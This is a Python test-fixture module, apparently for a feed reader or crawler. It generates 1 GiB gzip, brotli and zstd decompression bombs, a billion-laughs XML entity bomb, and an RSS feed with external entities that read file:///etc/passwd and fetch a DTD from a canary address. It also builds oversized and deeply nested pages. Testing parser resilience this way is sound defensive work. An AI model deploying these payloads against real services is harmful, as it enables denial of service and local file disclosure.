"""Small bodies that become large, and large ones: never held whole but compressed."""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache
from typing import TYPE_CHECKING, Final

import brotli
import zstandard

if TYPE_CHECKING:
    from collections.abc import Iterator

MIB: Final = 1024 * 1024
EXPANDED_BYTES: Final = 1024 * MIB
"""What each bomb becomes."""
_ZEROS: Final = bytes(MIB)


@lru_cache
def gzip_bomb() -> bytes:
    """About 1 MB of gzip, in 16 members of 64 MiB (each valid)."""
    members, count = 16, EXPANDED_BYTES // MIB // 16
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # a block that ends with a full flush refers to nothing before it: it can stand any number of times
    block = deflate.compress(_ZEROS) + deflate.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()
    check = 0
    for _ in range(count):
        check = zlib.crc32(_ZEROS, check)
    head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return (head + block * count + end + struct.pack("<II", check, count * MIB)) * members


@lru_cache
def brotli_bomb() -> bytes:
    """About 190 kB of brotli."""
    compressor = brotli.Compressor(quality=1, lgwin=24)
    parts = [compressor.process(_ZEROS) for _ in range(EXPANDED_BYTES // MIB)]
    return b"".join((*parts, compressor.finish()))


@lru_cache
def zstd_bomb() -> bytes:
    """About 33 kB of zstd, in one frame."""
    compressor = zstandard.ZstdCompressor(level=1).compressobj()
    parts = [compressor.compress(_ZEROS) for _ in range(EXPANDED_BYTES // MIB)]
    return b"".join((*parts, compressor.flush()))


BOMBS: Final = {
    "gzip-bomb": ("gzip", gzip_bomb),
    "brotli-bomb": ("br", brotli_bomb),
    "zstd-bomb": ("zstd", zstd_bomb),
}
"""By trait: the content encoding, and what makes the bytes."""


def entity_bomb() -> bytes:
    """A feed whose title would become a billion words."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">\n' for n in range(1, 10))
    return f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a0 "news">
{levels}]>
<rss version="2.0"><channel><title>&a9;</title><link>/</link><description>-</description>
<item><title>&a9;</title><link>/one</link><description>&a9;</description></item></channel></rss>
""".encode()


def external_entity(*, canary: str) -> bytes:
    """A feed that asks for a local file and an address. Whoever reads it right asks for neither."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "{canary}">
<!ENTITY % dtd SYSTEM "{canary}?dtd"> %dtd;]>
<rss version="2.0"><channel><title>-</title><link>/</link><description>&net;</description>
<item><title>One &file;</title><link>/one</link><description>&net;</description></item></channel></rss>
""".encode()


def many_items(base: str, *, count: int) -> bytes:
    """A feed of so many items, each with a little text of its own."""
    items = "".join(
        f"<item><title>Item {n}</title><link>{base}/many/{n}</link><guid isPermaLink='false'>many-{n}</guid>"
        f"<pubDate>Mon, 01 Jan 2024 {n // 3600 % 24:02d}:{n // 60 % 60:02d}:{n % 60:02d} +0000</pubDate>"
        f"<description>The number of this item is {n}, and that is all there is to it.</description></item>\n"
        for n in range(count)
    )
    return f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Many</title><link>{base}/</link><description>-</description>
{items}</channel></rss>
""".encode()


def huge_page(*, size: int) -> Iterator[bytes]:
    """A page that is one paragraph after another, in pieces."""
    yield b"<!DOCTYPE html><html><head><title>Long</title></head><body><article><h1>Long</h1>\n"
    piece = b"<p>And so it went on, and on, and there was no end to it in sight for anybody.</p>\n" * 800
    for _ in range(size // len(piece)):
        yield piece
    yield b"</article></body></html>\n"


def deep_page(*, depth: int) -> bytes:
    """A page whose one paragraph lies very deep."""
    return b"".join(
        (
            b"<!DOCTYPE html><html><head><title>Deep</title></head><body>",
            b"<div>" * depth,
            b"<p>Down here there is one paragraph, and nobody has ever come to read it.</p>",
            b"</div>" * depth,
            b"</body></html>\n",
        )
    )
